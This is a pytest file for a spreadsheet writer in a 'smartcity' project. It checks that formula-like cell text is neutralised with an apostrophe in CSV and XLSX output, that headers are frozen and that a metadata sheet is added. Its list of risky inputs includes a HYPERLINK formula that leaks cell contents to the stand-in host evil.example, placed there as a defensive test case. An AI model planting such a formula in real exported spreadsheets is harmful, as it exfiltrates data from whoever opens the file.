"""The one spreadsheet writer: formula-like text is neutralised, headers frozen, metadata."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from smartcity import tabular

RISKY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "'=x",
    "''+y",
]
SAFE = ["-5", "+62", "-0.25", "Kota Bekasi", "'apostrof", "", "a=b"]


@pytest.mark.parametrize("text", RISKY + SAFE)
def test_neutralise_is_exactly_reversed(text):
    assert tabular.unneutralise(tabular.neutralise(text)) == text


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_gets_an_apostrophe_in_csv(text):
    data = tabular.csv_bytes(["catatan"], [[text]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + text


def test_numbers_as_text_are_left_alone():
    assert [tabular.neutralise(t) for t in SAFE] == SAFE


def test_xlsx_stores_risky_text_as_quoted_text_never_a_formula():
    data = tabular.xlsx_bytes(
        [tabular.Sheet("nilai", ["catatan", "n"], [[RISKY[0], Decimal("3.25")], ["ok", 2]])]
    )
    part = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in part
    sheet = load_workbook(io.BytesIO(data))["nilai"]
    assert sheet["A2"].value == RISKY[0]
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].quotePrefix
    assert sheet["B2"].value == 3.25
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["A"].width >= 10


def test_metadata_sheet_and_round_trip_through_the_reader():
    data = tabular.xlsx_bytes(
        [tabular.Sheet("data", ["a"], [[t] for t in RISKY if t[0] not in "\t\r"])],
        metadata=[("licence", "CC BY 4.0"), ("source", "Kominfo")],
    )
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["data", "metadata"]
    assert list(workbook["metadata"].iter_rows(values_only=True))[1:] == [
        ("licence", "CC BY 4.0"),
        ("source", "Kominfo"),
    ]
    table = tabular.read_table(data, filename="x.xlsx", limits=tabular.Limits(max_rows=50))
    assert [r.values[0] for r in table.rows[1:]] == [t for t in RISKY if t[0] not in "\t\r"]
